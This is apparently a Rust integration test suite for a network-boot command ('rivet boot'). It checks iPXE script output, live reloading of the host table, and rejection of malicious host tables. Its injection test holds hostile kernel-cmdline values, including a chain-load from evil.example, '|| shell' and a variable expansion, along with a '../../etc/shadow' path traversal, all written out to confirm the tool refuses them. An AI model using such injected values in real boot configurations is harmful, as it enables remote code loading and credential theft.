//! `rivet boot` as an operator meets it, without root: printing a host's script, refusing
//! host tables that would inject iPXE commands, and reloading the table while serving.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::process::{Command, Output};
use std::time::Duration;

use rivet_tests::{Daemon, cargo_bin, free_tcp_port, require_tool, scratch_dir, wait_until};

fn rivet(args: &[&str]) -> Output {
    Command::new(cargo_bin("rivet"))
        .args(args)
        .env_remove("RUST_LOG")
        .output()
        .unwrap()
}

const TABLE: &str = r#"{
  "agent": {"kernel": "agent/vmlinuz", "initrds": ["agent/initrd.img"], "cmdline": "console=ttyS0 quiet"},
  "hosts": [{"mac": "52:54:00:00:00:01", "boot": "agent"},
            {"mac": "52:54:00:00:00:02", "boot": "ignore"}]
}"#;

#[test]
fn boot_ipxe_prints_the_script_a_host_would_get() {
    let dir = scratch_dir("ipxe-cli");
    let hosts = dir.path().join("hosts.json");
    std::fs::write(&hosts, TABLE).unwrap();
    let hosts = hosts.to_str().unwrap();
    let out = rivet(&[
        "boot",
        "ipxe",
        "52-54-00-00-00-01",
        "--hosts",
        hosts,
        "--http-base",
        "http://10.0.0.1:8080",
    ]);
    assert!(out.status.success(), "{out:?}");
    let script = String::from_utf8(out.stdout).unwrap();
    assert!(script.starts_with("#!ipxe\n"));
    assert!(script.contains(
        "kernel --name vmlinuz http://10.0.0.1:8080/files/agent/vmlinuz initrd=initrd.img console=ttyS0 quiet"
    ));
    let out = rivet(&[
        "boot",
        "ipxe",
        "52:54:00:00:00:02",
        "--hosts",
        hosts,
        "--http-base",
        "http://10.0.0.1:8080",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no boot"));
    let out = rivet(&[
        "boot",
        "ipxe",
        "nonsense",
        "--hosts",
        hosts,
        "--http-base",
        "http://x",
    ]);
    assert_eq!(out.status.code(), Some(2), "a bad MAC is a usage error");
}

#[test]
fn host_tables_that_would_inject_ipxe_commands_are_refused() {
    let dir = scratch_dir("ipxe-inject");
    let hosts = dir.path().join("hosts.json");
    for (cmdline, expected) in [
        (r"quiet\nchain http://evil.example/x", "control character"),
        ("quiet || shell", "`||`"),
        ("quiet && chain http://evil.example/x", "`&&`"),
        ("rd.shell=${root-path}", "`$`"),
    ] {
        std::fs::write(
            &hosts,
            format!(
                r#"{{"agent": {{"kernel": "k", "cmdline": "{cmdline}"}},
                    "hosts": [{{"mac": "52:54:00:00:00:01", "boot": "agent"}}]}}"#
            ),
        )
        .unwrap();
        let hosts = hosts.to_str().unwrap();
        for args in [
            vec![
                "boot",
                "ipxe",
                "52:54:00:00:00:01",
                "--hosts",
                hosts,
                "--http-base",
                "http://x",
            ],
            vec![
                "boot",
                "serve",
                "--mode",
                "off",
                "--no-tftp",
                "--hosts",
                hosts,
                "--http-base",
                "http://x",
                "--listen",
                "127.0.0.1:0",
            ],
        ] {
            let out = rivet(&args);
            assert_eq!(out.status.code(), Some(1), "{cmdline}: {out:?}");
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(stderr.contains(expected), "{cmdline}: {stderr}");
            assert!(out.stdout.is_empty(), "no script may be printed: {out:?}");
        }
    }
    // A kernel path that climbs out of the HTTP root is refused the same way.
    std::fs::write(&hosts, r#"{"agent": {"kernel": "../../etc/shadow"}}"#).unwrap();
    let out = rivet(&[
        "boot",
        "ipxe",
        "52:54:00:00:00:01",
        "--hosts",
        hosts.to_str().unwrap(),
        "--http-base",
        "http://x",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("must stay under the root"));
}

fn script_status(port: u16, mac: &str) -> String {
    let out = Command::new(require_tool("curl"))
        .args(["-s", "-o", "/dev/null", "-w", "%{http_code}"])
        .arg(format!("http://127.0.0.1:{port}/boot/{mac}.ipxe"))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn boot_serve_reloads_the_host_table_when_it_changes_and_on_sighup() {
    let dir = scratch_dir("reload");
    let hosts = dir.path().join("hosts.json");
    std::fs::write(&hosts, r#"{"hosts": []}"#).unwrap();
    let port = free_tcp_port();
    let mut command = Command::new(cargo_bin("rivet"));
    command
        .args(["boot", "serve", "--mode", "off", "--no-tftp", "--hosts"])
        .arg(&hosts)
        .args(["--listen", &format!("127.0.0.1:{port}")])
        .args(["--http-base", &format!("http://127.0.0.1:{port}")]);
    let mut server = Daemon::spawn("rivet-boot", dir.path(), &mut command);
    server.wait_for_log("HTTP serving", Duration::from_secs(30));
    assert_eq!(script_status(port, "52-54-00-00-00-01"), "404");

    // An edit is picked up by the file watcher.
    std::fs::write(&hosts, TABLE).unwrap();
    wait_until(
        "the edited table to be served",
        Duration::from_secs(30),
        || script_status(port, "52-54-00-00-00-01") == "200",
    );

    // A broken edit is refused and the table in force stays.
    std::fs::write(&hosts, r#"{"hosts": [ oops"#).unwrap();
    server.wait_for_log("host table not reloaded", Duration::from_secs(30));
    assert_eq!(script_status(port, "52-54-00-00-00-01"), "200");

    // SIGHUP reloads even when the file looks unchanged to the watcher.
    std::fs::write(
        &hosts,
        r#"{"hosts": [{"mac": "52:54:00:00:00:01", "boot": "local_disk"}]}"#,
    )
    .unwrap();
    server.signal(libc::SIGHUP);
    wait_until("the table to be reloaded", Duration::from_secs(30), || {
        server.log().matches("host table replaced").count() >= 2
    });
    server.assert_running();

    // SIGTERM is a clean stop.
    server.signal(libc::SIGTERM);
    assert!(server.wait_for_exit(Duration::from_secs(30)).success());
}
